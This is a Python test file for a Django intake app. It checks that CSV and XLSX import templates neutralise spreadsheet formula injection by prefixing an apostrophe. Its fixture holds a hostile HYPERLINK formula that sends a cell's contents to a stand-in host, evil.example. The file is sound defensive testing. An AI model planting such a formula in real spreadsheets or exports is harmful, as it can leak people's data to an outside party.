"""The import template never carries a formula (issue 12, item 7): a question label beginning with = (or
+ - @) reached staff spreadsheets as a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tandem.applications.models import Question, QuestionTranslation
from tandem.intake import tables
from tandem.intake.template_files import inert

HOSTILE = '=HYPERLINK("https://evil.example/?"&A2,"Klicka")'


@pytest.fixture
def hostile_question(mentee_form):
    question = Question.objects.create(form=mentee_form, custom_type="short_text", page="custom", order=990)
    QuestionTranslation.objects.create(question=question, language="sv", label=HOSTILE)
    QuestionTranslation.objects.create(question=question, language="en", label=HOSTILE)
    return question


def template(client, program, ext: str) -> bytes:
    url = reverse("intake:import_template", args=[program.pk, ext]) + "?role=mentee"
    response = client.get(url)
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("text", ["=1+1", "+46 70", "-2", "@SUM(A1)", "\tx"])
def test_formula_starts_get_an_apostrophe_and_read_back_without_it(text):
    assert inert(text) == f"'{text}"
    assert tables.without_formula_guard(inert(text)) == text


def test_plain_text_is_left_alone():
    assert inert("Förnamn") == "Förnamn"
    assert tables.without_formula_guard("'quoted on purpose") == "'quoted on purpose"


def test_the_csv_template_has_no_formula(client, coordinator, hostile_question):
    client.force_login(coordinator)
    text = template(client, hostile_question.form.program, "csv").decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert f"'{HOSTILE}" in cells
    assert not any(cell[:1] in tables.FORMULA_STARTS for cell in cells)


def test_the_xlsx_template_has_no_formula(client, coordinator, hostile_question):
    from openpyxl import load_workbook

    client.force_login(coordinator)
    content = template(client, hostile_question.form.program, "xlsx")

    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert f"'{HOSTILE}" in [cell.value for cell in cells]
    with io.BytesIO(content) as file:
        assert HOSTILE in tables.read_table(file, "xlsx").header  # the import reads the label back
